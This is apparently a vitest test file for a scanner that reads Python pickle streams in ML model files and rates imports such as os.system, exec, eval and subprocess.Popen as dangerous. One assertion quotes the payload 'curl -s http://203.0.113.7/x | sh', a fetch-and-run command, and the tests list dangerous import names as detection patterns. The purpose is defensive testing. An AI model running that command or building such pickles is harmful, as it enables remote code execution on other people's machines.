import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { scanPickle } from '../code/pickle-globals.js';
import { PICKLES } from '../../test-support/pickle-fixtures.js';
import { classifyPickleImport, modelFileFindings } from './model-file-findings.js';

const dir = await mkdtemp(join(tmpdir(), 'vigil-pickle-'));
afterAll(() => rm(dir, { recursive: true, force: true }));

async function findingsFor(name: string, bytes: Uint8Array) {
  const absPath = join(dir, name);
  await writeFile(absPath, bytes);
  return modelFileFindings([{ path: name, absPath, size: bytes.length }]);
}
const b64 = (s: string) => Buffer.from(s, 'base64');

describe('scanPickle', () => {
  it('reads a protocol 0 GLOBAL and the string it is called with', () => {
    const scan = scanPickle(b64(PICKLES.p0OsSystem));
    expect(scan.complete).toBe(true);
    expect(scan.globals).toEqual([expect.objectContaining({ module: 'os', name: 'system', called: true, args: ['curl -s http://203.0.113.7/x | sh'] })]);
  });

  it('resolves STACK_GLOBAL from the strings pushed before it (protocol 4 and 5)', () => {
    expect(scanPickle(b64(PICKLES.p4Exec)).globals.map((g) => `${g.module}.${g.name}`)).toEqual(['builtins.exec']);
    expect(scanPickle(b64(PICKLES.p5Popen)).globals.map((g) => `${g.module}.${g.name}`)).toEqual(['subprocess.Popen']);
  });

  it('resolves STACK_GLOBAL operands fetched from the memo (BINGET), where a look-back at opcodes sees no string', () => {
    const scan = scanPickle(b64(PICKLES.p4Memo));
    expect(scan.unresolved).toBe(0);
    expect(scan.globals.map((g) => `${g.module}.${g.name}:${g.called}`)).toEqual(['builtins.eval:false', 'builtins.eval:true']);
  });

  it('lists numpy 2 reconstruction imports of an array pickle and stops at STOP', () => {
    const bytes = b64(PICKLES.benignNpP2);
    const scan = scanPickle(bytes);
    expect(scan.complete).toBe(true);
    expect(scan.end).toBe(bytes.length);
    expect(new Set(scan.globals.map((g) => `${g.module}.${g.name}`))).toEqual(new Set(['collections.OrderedDict', 'numpy._core.multiarray._reconstruct', 'numpy.ndarray', 'numpy.dtype', '_codecs.encode']));
  });

  it('lists nothing for text that is not a pickle, and stops on a truncated stream', () => {
    expect(scanPickle(Buffer.from('{"a": 1}')).globals).toEqual([]);
    const cut = b64(PICKLES.p4Exec).subarray(0, 30);
    expect(scanPickle(cut).complete).toBe(false);
  });
});

describe('classifyPickleImport', () => {
  it('sorts imports into dangerous, safe and unfamiliar', () => {
    expect(classifyPickleImport('posix', 'system')).toBe('dangerous');
    expect(classifyPickleImport('builtins', 'getattr')).toBe('dangerous');
    expect(classifyPickleImport('urllib.request', 'urlopen')).toBe('dangerous');
    expect(classifyPickleImport('shutil', 'rmtree')).toBe('dangerous');
    expect(classifyPickleImport('types', 'CodeType')).toBe('dangerous');
    expect(classifyPickleImport('torch._utils', '_rebuild_tensor_v2')).toBe('safe');
    expect(classifyPickleImport('torch', 'FloatStorage')).toBe('safe');
    expect(classifyPickleImport('torch.nn.modules.linear', 'Linear')).toBe('safe');
    expect(classifyPickleImport('sklearn.linear_model._logistic', 'LogisticRegression')).toBe('safe');
    expect(classifyPickleImport('_codecs', 'encode')).toBe('safe');
    expect(classifyPickleImport('numpy', 'load')).toBe('unfamiliar');
    expect(classifyPickleImport('mylib.models', 'make_model')).toBe('unfamiliar');
  });
});

describe('modelFileFindings', () => {
  it('is CRIT for a plain pickle that imports a command runner, evaluator or process API', async () => {
    for (const [name, bytes] of [
      ['a.pkl', PICKLES.p0OsSystem],
      ['b.pickle', PICKLES.p2Reduce],
      ['c.dill', PICKLES.p4Exec],
      ['d.pkl', PICKLES.p5Popen],
    ] as const) {
      const f = await findingsFor(name, b64(bytes));
      expect(f.map((x) => x.severity), name).toEqual(['CRIT']);
    }
  });

  it('reads data.pkl inside a PyTorch zip checkpoint, stored or deflated, and the legacy format', async () => {
    const stored = await findingsFor('model.pt', b64(PICKLES.torchMalZip));
    expect(stored[0]).toMatchObject({ severity: 'CRIT', file: 'model.pt' });
    expect(stored[0]!.evidence).toContain('system');
    expect(stored[0]!.evidence).toContain('archive/data.pkl');
    expect((await findingsFor('pytorch_model.bin', b64(PICKLES.torchMalZipDeflate)))[0]?.severity).toBe('CRIT');
    expect((await findingsFor('old.pth', b64(PICKLES.torchLegacyMal)))[0]?.severity).toBe('CRIT');
  });

  it('reads the pickle of an object .npy and a zlib-compressed joblib file', async () => {
    expect((await findingsFor('arr.npy', b64(PICKLES.npyMal)))[0]?.severity).toBe('CRIT');
    expect((await findingsFor('model.joblib', b64(PICKLES.joblibZlibMal)))[0]?.severity).toBe('CRIT');
  });

  it('says nothing of a checkpoint of torch, numpy and collections only, nor of a numeric .npy', async () => {
    expect(await findingsFor('weights.pt', b64(PICKLES.torchBenignZip))).toEqual([]);
    expect(await findingsFor('state.pkl', b64(PICKLES.benignNpP2))).toEqual([]);
    expect(await findingsFor('state4.pkl', b64(PICKLES.benignNpP4))).toEqual([]);
    expect(await findingsFor('x.npy', b64(PICKLES.npyBenign))).toEqual([]);
  });

  it('leaves a text .pth path file and a non-pickle .bin alone', async () => {
    expect(await findingsFor('distutils-precedence.pth', Buffer.from("import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"))).toEqual([]);
    expect(await findingsFor('firmware.bin', Buffer.from([0x63, 0x6f, 0x73, 0x0a, 0x73, 0x79, 0x73, 0x74, 0x65, 0x6d, 0x0a]))).toEqual([]);
  });

  it('is MED for imports outside the safe list', async () => {
    const bytes = Buffer.from("cmylib.models\nmake_model\n(S'resnet'\ntR.", 'latin1');
    const f = await findingsFor('custom.pkl', bytes);
    expect(f.map((x) => [x.severity, x.evidence])).toEqual([['MED', 'mylib.models.make_model("resnet")']]);
  });
});
